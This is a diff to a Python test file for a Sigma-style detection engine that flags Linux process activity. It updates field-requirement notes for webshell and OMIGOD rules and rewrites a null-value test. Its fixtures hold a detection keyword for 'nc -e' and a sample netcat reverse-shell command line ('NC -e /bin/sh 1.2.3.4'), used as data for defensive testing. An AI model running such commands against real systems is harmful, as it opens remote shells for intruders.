@@ -25,11 +25,11 @@ NOT_ACTIVE = {
     "proc_creation_lnx_webshell_detection.yml": ("needs-field", "needs field ParentCommandLine"),
     "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml": (
         "needs-field",
-        "needs field LogonId",
+        "needs fields CurrentDirectory, LogonId",
     ),
     "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml": (
         "needs-field",
-        "needs field LogonId",
+        "needs fields CurrentDirectory, LogonId",
     ),
 }
 
@@ -228,12 +228,9 @@ def test_the_modifiers_and_values_the_corpus_does_not_use(tmp_path: Path) -> Non
     assert hits(regex_i, CommandLine="CURL http://x")
     windash = "detection:\n  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n"
     assert hits(windash, CommandLine="find . /exec sh")
-    null = (
-        "detection:\n  sel:\n    CommandLine|contains: x\n    CurrentDirectory: null\n"
-        "  condition: sel\n"
-    )
+    null = "detection:\n  sel:\n    CommandLine|contains: x\n    User: null\n  condition: sel\n"
     assert hits(null, CommandLine="x")
-    assert not hits(null, CommandLine="x", CurrentDirectory="/root")
+    assert not hits(null, CommandLine="x", User="root")
     keyword = "detection:\n  words:\n    - 'nc -e'\n  condition: words\n"
     assert hits(keyword, CommandLine="sudo NC -e /bin/sh 1.2.3.4")
     assert not hits(keyword, Image="/usr/bin/nc -e")
